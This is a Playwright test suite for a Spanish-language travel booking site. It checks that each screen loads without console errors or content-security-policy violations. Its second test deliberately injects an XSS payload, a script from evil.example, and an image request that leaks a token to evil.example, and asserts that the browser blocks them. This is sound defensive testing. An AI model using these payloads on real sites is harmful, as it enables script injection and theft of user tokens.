import { readFileSync } from 'node:fs';
import { type APIRequestContext, type BrowserContext, expect, type Page, test } from '@playwright/test';
import { signIn } from '../features/accounts/contract/entry-routes.ts';
import { listPlans, showDayDepartures } from '../features/operators/contract/plan-routes.ts';
import { listPins } from '../features/places/contract/routes.ts';
import { pathOf } from '../features/route.ts';
import { WITH_MAPS_AND_PICTURES } from './data-saver.ts';
import { enter } from './demo-people.ts';
import { alive, liveMap } from './page-steps.ts';

test.use(WITH_MAPS_AND_PICTURES);

const ROUTES = ['web/traveller-screens.ts', 'web/later-screens.ts'].flatMap((table) =>
  [...readFileSync(table, 'utf8').matchAll(/^ {2}\['(\/[^']*)', '[a-z-]+\/[a-z-]+'\]/gm)].map(([, path]) => path!),
);
/** These screens open the resource `nada`, which does not exist. Replies with 400 or 404 are expected. */
const MISSING = [
  '/empresa/nada',
  '/empresa/nada/avisos',
  '/empresa/nada/codigo',
  '/empresa/nada/equipo',
  '/empresa/nada/ficha',
  '/empresa/nada/opiniones',
  '/empresa/nada/fotos',
  '/empresa/nada/preguntas',
  '/empresa/reclamar/nada',
  '/empresa/solicitudes/nada',
  '/cotizaciones/nada',
  '/viajes/nada/preguntas',
  '/viajes/nada/publicar',
  '/lista-de-espera/nada',
  '/preguntas/nada',
  '/responder/nada',
  '/pagar/nada',
  '/pago/nada',
  '/reclamos/nada',
  '/reservas/nada',
  '/reservas/nada/opinion/nada',
  '/region/personas/nada',
  '/region/reclamos/nada',
  '/region/importar/nada',
  '/region/itinerarios/nada',
  '/region/lugares/hoja/nada',
  '/region/lugares/nada',
  '/region/lugares/nada/codigo',
  '/region/lugares/nada/dividir',
  '/region/lugares/nada/fusionar',
  '/region/mensajes/nada',
  '/region/cierres/nada',
  '/region/reservas/nada',
  '/region/cierres/avisos/nada',
];
const OF_NOTHING = /\/nada(\/|$)/;
const ABREAST = 3;
const OPERATOR = 'operadora-totora';

async function listen(page: Page, heard: string[] = []): Promise<string[]> {
  await page.exposeFunction('stopped', (what: string) => heard.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sourceFile, sample } = event as SecurityPolicyViolationEvent;
      const { stopped } = window as unknown as { stopped(what: string): void };
      stopped(`${location.pathname}: ${effectiveDirective} stopped ${blockedURI} of ${sourceFile}: ${sample}`);
    });
  });
  page.on('console', (line) => {
    const { pathname } = new URL(page.url());
    const { url } = line.location();
    if (OF_NOTHING.test(pathname) && /status of 40[04]/.test(line.text())) return;
    // If the second factor's code is missing, the server answers 401 to a right password.
    if (pathname === '/entrar' && url.endsWith(signIn.path) && line.text().includes('status of 401')) return;
    // Playwright's init script runs in every frame, but the preview of the brand forbids scripts.
    if (/^Blocked script execution in '(about:blank|[^']*\/vista-previa)'/.test(line.text())) return;
    if (line.type() === 'error' || /violates|Permissions-Policy|Trusted/.test(line.text()))
      heard.push(`${pathname}: ${line.text()} ${url}`);
  });
  page.on('pageerror', (error) => heard.push(`${new URL(page.url()).pathname}: ${error.message}`));
  return heard;
}

async function ready(page: Page, path: string) {
  await page.goto(path);
  await alive(page);
  await page.waitForLoadState('networkidle');
}

async function planTwoDays(page: Page) {
  const day = new Date(Date.now() + 21 * 86_400_000).toISOString().slice(0, 10);
  await ready(page, `/arma-tu-viaje?desde=${day}&dias=2`);
  await page.getByRole('button', { name: 'Ver mi plan' }).click();
  await page.waitForURL(/\/viajes\/[\w-]+/);
  await expect(page.locator('[data-ribbon-day="0"] [data-stop]').first()).toBeVisible();
}

async function visit(context: BrowserContext, paths: string[], heard: string[]) {
  const waiting = [...paths];
  await Promise.all(
    Array.from({ length: ABREAST }, async () => {
      const page = await context.newPage();
      await listen(page, heard);
      for (let path = waiting.shift(); path; path = waiting.shift()) {
        await ready(page, path);
        await expect(page.locator('h1').first(), path).toBeAttached();
      }
      await page.close();
    }),
  );
}

async function whatTotoraSells(request: APIRequestContext): Promise<Record<string, string>> {
  const headers = { authorization: 'Bearer vereda-demo' };
  const { items } = await (await request.get(listPlans.path, { headers })).json();
  const plan = items.find(({ operator }: { operator: { slug: string } }) => operator.slug === OPERATOR);
  const days = pathOf(showDayDepartures, { params: { planId: plan.id }, query: { date: plan.nextDate } });
  const departures = await (await request.get(days)).json();
  return {
    '/planes/:slug': plan.slug,
    operatorId: plan.operator.id,
    planId: plan.id,
    departureId: departures.items[0].id,
  };
}

test('no screen violates its content security policy or logs an error', async ({ page, context, browser, request }) => {
  const heard = await listen(page);
  await planTwoDays(page);
  const trip = new URL(page.url()).pathname.split('/')[2]!;

  const pins = (await (await request.get(pathOf(listPins))).json()).pins as [string, string][];
  const itinerary = /\/itinerarios\/([\w-]+)"/.exec(await (await request.get('/itinerarios')).text())?.[1] ?? '';
  const parameters: Record<string, string> = {
    '/lugares/:slug': pins[0]![1],
    '/itinerarios/:slug': itinerary,
    '/politicas/:kind': 'privacy',
    '/region/politicas/:kind': 'privacy',
    '/viajes/:id': trip,
    '/viajes/:id/imprimir': trip,
  };
  const sold = await whatTotoraSells(request);
  const paths = ROUTES.map((route) =>
    route.replace(/:(\w+)/g, (_, name: string) => parameters[route] ?? sold[route] ?? sold[name] ?? 'nada'),
  );
  const missing = paths.filter((path) => OF_NOTHING.test(path) && !path.startsWith('/operador/'));
  expect(missing.sort()).toEqual(MISSING.toSorted());
  const ofPeople = paths.filter((path) => /^\/(region|cuenta|empresa)/.test(path));
  const ofOperators = paths.filter((path) => path.startsWith('/operador'));
  expect(ofPeople.length).toBeGreaterThan(10);
  await visit(
    context,
    paths.filter((path) => !ofPeople.includes(path) && !ofOperators.includes(path)),
    heard,
  );
  await ready(page, '/explorar');
  await liveMap(page);
  await page.locator('a[href^="/lugares/"]').first().click();
  await page.waitForURL(/\/lugares\//);
  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached();
  await page.goto('/api/docs');

  const staffContext = await browser.newContext();
  const staffPage = await staffContext.newPage();
  await listen(staffPage, heard);
  await enter(staffPage, 'administracion', '/region');
  await expect(staffPage.locator('h1').first()).toBeAttached();
  await visit(staffContext, ofPeople, heard);
  await staffContext.close();

  const house = await browser.newContext();
  const counter = await house.newPage();
  await listen(counter, heard);
  await enter(counter, 'operadora', '/cuenta');
  await visit(house, ofOperators, heard);
  await house.close();
  expect(heard).toEqual([]);
});

test('the browser blocks injected content and reports it to the site', async ({ page }) => {
  const heard = await listen(page);
  await ready(page, '/ayuda');
  const ran = await page.evaluate(async () => {
    const tries: [string, () => unknown][] = [
      ['html', () => Object.assign(document.createElement('p'), { innerHTML: '<img src=x onerror=alert(1)>' })],
      ['script text', () => Object.assign(document.createElement('script'), { textContent: 'alert(1)' })],
      ['script address', () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })],
      ['worker', () => new Worker('data:text/javascript,1')],
      [
        'policy',
        () =>
          (
            window as never as { trustedTypes: { createPolicy(name: string, r: object): unknown } }
          ).trustedTypes.createPolicy('mine', {}),
      ],
    ];
    const passed = tries.filter(([, run]) => {
      try {
        run();
        return true;
      } catch {
        return false;
      }
    });
    const image = new Image();
    image.src = 'https://evil.example/leak.png?token=1';
    const handler = document.createElement('p');
    handler.setAttribute('style', 'color: red');
    document.body.append(handler);
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return passed.map(([name]) => name);
  });
  expect(ran).toEqual([]);
  for (const rule of ['require-trusted-types-for', 'trusted-types', 'img-src', 'frame-src']) {
    // A busy browser reports violations with a delay.
    await expect.poll(() => heard.filter((line) => line.includes(` ${rule} `)), { message: rule }).not.toEqual([]);
  }
});
